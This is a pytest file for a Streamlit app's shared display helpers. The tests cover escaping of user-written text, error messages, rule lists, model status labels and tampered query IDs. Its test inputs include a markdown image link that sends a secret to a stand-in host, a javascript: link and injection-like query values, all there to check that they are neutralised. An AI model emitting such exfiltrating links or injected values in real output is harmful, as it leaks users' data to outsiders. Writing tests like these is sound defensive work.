"""Shared pieces: what people and models wrote is shown as written, and every state says what it means."""

import pytest
from streamlit.testing.v1 import AppTest

from core.engines.choosing import EngineStatus
from core.ports import ModelInfo
from pages import parts


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "<img src=x>",
        ":material/lock:",
        "$x$",
        "# no",
    ],
)
def test_what_a_person_wrote_is_never_markdown(text: str) -> None:
    shown = parts.plain(text)
    assert shown.replace("\\", "") == text
    assert all(shown[at - 1] == "\\" for at, letter in enumerate(shown) if letter in "[]()<>$:!#")


def test_a_hint_keeps_what_is_to_be_typed_and_nothing_else() -> None:
    assert parts.worded("Type `make *link*` *now*") == "Type `make *link*` \\*now\\*"
    assert parts.worded("a ` b *c*") == "a \\` b \\*c\\*"


def show_a_failure() -> None:
    from core.errors import StudioError
    from pages import parts

    parts.show_error(StudioError("Ollama is not answering.", hint="Start it, then press *Retry*."))


def test_an_error_says_what_happened_and_what_to_do() -> None:
    page = AppTest.from_function(show_a_failure).run()
    assert page.error[0].value == "**Ollama is not answering\\.**  \nStart it, then press \\*Retry\\*\\."


def show_rules() -> None:
    from pages import parts

    parts.rule_list(
        [
            parts.RuleLine("Enough messages", False, "3 of 5 messages", "5 messages", "after 2 more"),
            parts.RuleLine("Quiet hours", True, "It is 14:00", "outside 21:00–09:00", "never mind"),
        ]
    )


def test_a_refusal_explains_itself_and_what_passes_stays_short() -> None:
    refused, passed = (str(line.value) for line in AppTest.from_function(show_rules).run().markdown)
    assert "3 of 5 messages" in refused
    assert "5 messages" in refused
    assert "after 2 more" in refused
    assert "never mind" not in passed


def show_nothing_yet() -> None:
    import streamlit as st

    from pages import parts

    if parts.empty_state("No letters", "They will wait here.", "Build a persona", key="inbox"):
        st.write("pressed")


def test_an_empty_page_leads_somewhere() -> None:
    page = AppTest.from_function(show_nothing_yet).run()
    assert page.button("inbox-button").click().run().markdown[-1].value == "pressed"


@pytest.mark.parametrize(
    ("status", "words", "color"),
    [
        (EngineStatus("ollama", ModelInfo("llama3.2:3b"), "ready"), "llama3.2:3b · Ollama", "green"),
        (EngineStatus("embedded", ModelInfo("tiny"), "ready", is_demo=True), "tiny · built in", "orange"),
        (EngineStatus("scripted", ModelInfo("scripted"), "ready", is_demo=True), "scripted", "orange"),
        (EngineStatus("embedded", None, "loading"), "Loading the model…", "orange"),
        (EngineStatus("ollama", None, "unavailable"), "No model", "red"),
    ],
)
def test_it_is_always_said_who_speaks(status: EngineStatus, words: str, color: str) -> None:
    assert parts.engine_words(status) == (words, color)


@pytest.mark.parametrize(
    ("name", "short"),
    [
        ("SmolLM2-135M-Instruct.Q4_1", "SmolLM2-135M"),
        ("bartowski/Llama-3.2-3B-Instruct-GGUF/Llama-3.2-3B-Instruct-Q4_K_M.gguf", "Llama-3.2-3B"),
        ("qwen2.5:3b", "qwen2.5:3b"),
        ("gemma-3-4b-it-Q4_0.gguf", "gemma-3-4b"),
    ],
)
def test_a_models_name_is_short_enough_for_the_edge(name: str, short: str) -> None:
    assert parts.short_model(name) == short


def read_addresses() -> None:
    import streamlit as st

    from pages import parts

    for name in ("good", "zero", "word", "long", "none", "other"):
        st.text(str(parts.query_id(name)))


def test_an_address_that_was_tampered_with_names_no_row() -> None:
    page = AppTest.from_function(read_addresses)
    page.query_params.update({"good": "17", "zero": "0x1", "word": "1 or 1", "long": "9" * 40, "other": "²"})
    assert [text.value for text in page.run().text] == ["17", "None", "None", "None", "None", "None"]
